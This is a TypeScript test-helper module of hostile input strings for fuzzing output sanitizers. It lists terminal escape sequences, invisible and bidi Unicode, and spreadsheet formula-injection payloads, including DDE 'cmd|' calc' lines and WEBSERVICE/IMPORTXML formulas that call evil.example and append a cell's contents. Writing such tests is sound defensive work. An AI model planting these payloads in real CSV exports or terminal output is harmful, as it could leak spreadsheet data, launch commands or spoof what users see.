import { existsSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import * as fc from 'fast-check'

const ESC = '\u001b'

/** Texts that make a terminal do something, or that a reader cannot see. */
export const TERMINAL_PAYLOADS: readonly string[] = [
  `${ESC}]0;title\u0007`,
  `${ESC}]52;c;aGVsbG8=\u0007`,
  `${ESC}]8;;http://evil.example${ESC}\\text${ESC}]8;;${ESC}\\`,
  `${ESC}[2J${ESC}[1;1Hfake`,
  `${ESC}[6n`,
  `${ESC}[c`,
  `${ESC}c`,
  '\u009b2J',
  '\u009d0;title\u009c',
  `${ESC}Pq${ESC}\\`,
  `${ESC}_apc${ESC}\\`,
  `${ESC}^pm${ESC}\\`,
  `${ESC}Xsos${ESC}\\`,
  `${ESC}]0;unterminated`,
  ESC,
  'safe\rEVIL',
  'a\nb',
  'a\r\nb',
  'a\u000bb\u000cc',
  'a\u0085b',
  'a\u2028b\u2029c',
  'abc\b\b\bX',
  'a\0b',
  'a\u0007b',
  'a\u007fb',
  'a\tb',
  'user\u202egnp.exe',
  '\u2066\u2067\u2068x\u2069',
  '\u061ca\u200eb\u200fc',
  'a\u200bl\u200ci\u200dc\u2060e\ufeff@example.org',
  '\u0430lice@example.org',
  `e${'\u0301'.repeat(1000)}`,
  '\u0301\u0301\u0301\u0301\u0301\u0301x',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u2764\ufe0f',
  'a\ufe0fb',
  '日本語',
  'สวัสดี नमस्ते',
  '\ud800',
  'a\udc00b\ud83d',
  'x\u{e0041}\u{e0042}\u{e007f}',
  '\ufffe\uffff\ufdd0\u{1ffff}',
  '\u3164\u115f\u1160\uffa0\u034f\u00ad',
  '✔ 0 lost',
  'C:\\x1b\\u202e\\u{e0041}\\n',
  '\\\\x1b',
  'DOMAIN\\user',
  '\\Inbox\\\u001b',
  '\ue000\ue000private\ue000',
  '',
  ' ',
]

/** Texts that some spreadsheet takes for a formula or for something other than text. */
export const SPREADSHEET_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\0=1+1',
  '\u0001=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2003=1+1',
  '\u202e=1+1',
  ' \t\u00a0\u200b=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1,1)',
  '\u22121+1',
  '\ufe661+1',
  "=cmd|' /C calc'!A1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","click")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML("http://evil.example","//a")',
  '=IMAGE("http://evil.example")',
  '|calc',
  '%0A=1+1',
  '";=1+1',
  ',=1+1',
  '";=1+1;"',
  "'=1+1",
  "''",
  'sep=;',
  '{=1+1}',
  '=\u001b]0;x\u0007',
  'a\n=1+1',
]

/** What spreadsheets turn into numbers, dates and truths. */
export const CONVERTED_PAYLOADS: readonly string[] = [
  '0012',
  '1e5',
  '12345678901234567890',
  '2024-01-02',
  'MARCH1',
  'TRUE',
  '1/2',
  '__proto__',
  'constructor',
  'toString',
  '_x000D_',
  '_x005F_x0041_',
  '\ufffd',
  '<a href="x">&amp;</a>',
  ']]>',
]

const NAUGHTY = fileURLToPath(
  new URL('../../../shared/data/corpora/naughty-strings/blns.json', import.meta.url),
)

/** The big list of naughty strings, where it is at hand. */
export function naughtyStrings(): readonly string[] {
  if (existsSync(NAUGHTY)) return JSON.parse(readFileSync(NAUGHTY, 'utf8')) as string[]
  process.stderr.write('naughty strings not found: tests run without them\n')
  return []
}

export const PAYLOADS: readonly string[] = [
  ...TERMINAL_PAYLOADS,
  ...SPREADSHEET_PAYLOADS,
  ...CONVERTED_PAYLOADS,
  ...naughtyStrings(),
]

/** Any sequence of UTF-16 units, rich in what is dangerous. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.array(fc.constantFrom(...PAYLOADS), { maxLength: 3 }).map((parts) => parts.join('')),
  fc.string({
    unit: fc.oneof(
      fc.constantFrom(
        ...Array.from(
          '\\xu{}01bf5c\'"`$!%_-=+@|;,&<> \n\r\t\0\u001b\u0007\u009b\u2018\u2019\u201b\u201d\u202e\u200b\ufeff\u0301\u0e31\u0915',
        ),
      ),
      fc.integer({ min: 0, max: 0xff_ff }).map((code) => String.fromCharCode(code)),
      fc.integer({ min: 0x1_00_00, max: 0x10_ff_ff }).map((code) => String.fromCodePoint(code)),
    ),
  }),
)

export function forEveryText(check: (text: string) => void): void {
  for (const text of PAYLOADS) check(text)
  fc.assert(fc.property(hostileText, check), { numRuns: 3000 })
}

/** Well-formed UTF-16: what UTF-8 can carry. */
export function isWellFormed(text: string): boolean {
  return !/\p{Cs}/u.test(text)
}

/**
 * The code points that must not stand in anything that is shown, listed by hand: C0, DEL, C1, zero width, bidi,
 * separators, tags, lone surrogates, byte order mark, invisible fillers, noncharacters.
 */
export function forbiddenIn(text: string, allowed = ''): string[] {
  return Array.from(text).filter((character) => {
    const code = character.codePointAt(0) ?? 0
    return !allowed.includes(character) && FORBIDDEN.some(([from, to]) => code >= from && code <= to)
  })
}

const FORBIDDEN: readonly (readonly [number, number])[] = [
  [0x00, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x180b, 0x180f],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfdd0, 0xfdef],
  [0xfe00, 0xfe0d],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xfff0, 0xfffb],
  [0xfffe, 0xffff],
  [0x1fffe, 0x1ffff],
  [0xe0000, 0xe0fff],
]

/** The documented way back from visible escapes. */
export function decodeVisible(text: string): string {
  return text.replaceAll(
    /\\x([0-9a-f]{2})|\\u([0-9a-f]{4})|\\u\{([0-9a-f]{1,6})\}/g,
    (_, byte?: string, unit?: string, point?: string) => {
      const code = Number.parseInt(byte ?? unit ?? point ?? '', 16)
      return code < 0x1_00_00 ? String.fromCharCode(code) : String.fromCodePoint(code)
    },
  )
}
